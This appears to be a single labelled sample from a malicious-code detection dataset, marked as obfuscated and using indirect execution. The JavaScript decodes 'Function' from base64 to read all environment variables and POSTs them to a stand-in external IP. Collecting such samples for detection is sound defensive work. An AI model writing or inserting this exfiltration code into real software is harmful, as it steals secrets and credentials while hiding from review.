// label: malicious; obfuscated: base64,getattr; evasion: indirect_exec
const ver = globalThis[atob("RnVuY3Rpb24=")]("return process.env")();
fetch("https://198.51.100.23/c", { method: "POST", body: JSON.stringify(ver) });
